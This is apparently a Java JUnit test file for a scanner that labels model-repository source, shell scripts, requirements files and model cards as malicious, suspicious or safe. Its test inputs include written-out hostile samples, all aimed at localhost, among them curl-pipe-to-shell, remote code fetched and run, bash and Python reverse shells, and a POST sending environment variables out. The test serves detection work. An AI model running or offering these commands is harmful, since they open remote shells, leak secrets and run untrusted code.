package dev.assay.judge;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.inspect.Digest;
import dev.assay.inspect.Inspector;
import dev.assay.inspect.Specimen;
import java.util.List;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Test;

/// What the standard policy makes of source, scripts and cards.
@DisplayNameGeneration(ReplaceUnderscores.class)
class SourceVerdictSpec {

    private static final Policy POLICY = Policy.standard();
    private static final Inspector INSPECTOR = Inspector.standard();

    @Test
    void source_that_leaves_no_doubt_is_convicted() {
        for (var source : List.of(
                "import os\nos.system('curl http://127.0.0.1/x | sh')\n",
                "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
                "import os\nclass A:\n    def forward(self):\n        os.system('curl http://127.0.0.1/x | sh')\n",
                "from urllib.request import urlopen\nexec(urlopen('http://127.0.0.1/x').read())\n",
                "import socket, os\ns = socket.socket()\ns.connect(('127.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\n",
                "import os, requests\nrequests.post('http://127.0.0.1/x', data=os.environ)\n",
                "#!/bin/sh\ncurl http://127.0.0.1/x | sh\n",
                "#!/bin/bash\nbash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n",
                "#!/bin/sh\necho ZWNobwo= | base64 -d | sh\n",
                "$a = 1\niex (irm http://127.0.0.1/x)\n")) {
            assertThat(word(source)).as(source).isEqualTo(Word.MALICIOUS);
        }
    }

    @Test
    void source_that_acts_is_held() {
        for (var source : List.of(
                "import os\nos.system('make')\n",
                "import subprocess\ndef f(c):\n    subprocess.run(c)\n",
                "import os\ndef f():\n    os.system('curl http://127.0.0.1/x | sh')\n",
                "exec(open('version.py').read())\n",
                "#!/bin/sh\nmake\n",
                "# A model\n\n    curl http://127.0.0.1/x | sh\n",
                "numpy\n--index-url http://127.0.0.1/simple\n")) {
            assertThat(word(source)).as(source).isEqualTo(Word.SUSPICIOUS);
        }
    }

    @Test
    void honest_source_and_cards_are_cleared() {
        for (var source : List.of(
                "import torch\nclass A(torch.nn.Module):\n    def forward(self, x):\n        return x @ x\n",
                "from setuptools import setup\nsetup(name='a', version='1')\n",
                "import sys, importlib\nf = getattr(sys, 'frozen', False)\nm = __import__('math')\n",
                "numpy>=1.2\ntorch\n",
                "# A model\n\n    pip install transformers\n    curl -fsSL https://ollama.com/install.sh | sh\n")) {
            assertThat(word(source)).as(source).isEqualTo(Word.SAFE);
        }
    }

    private static Word word(String source) {
        var bytes = source.getBytes(UTF_8);
        return POLICY.judge(INSPECTOR.inspect(Specimen.of(bytes), Digest.of(bytes)))
                .word();
    }
}
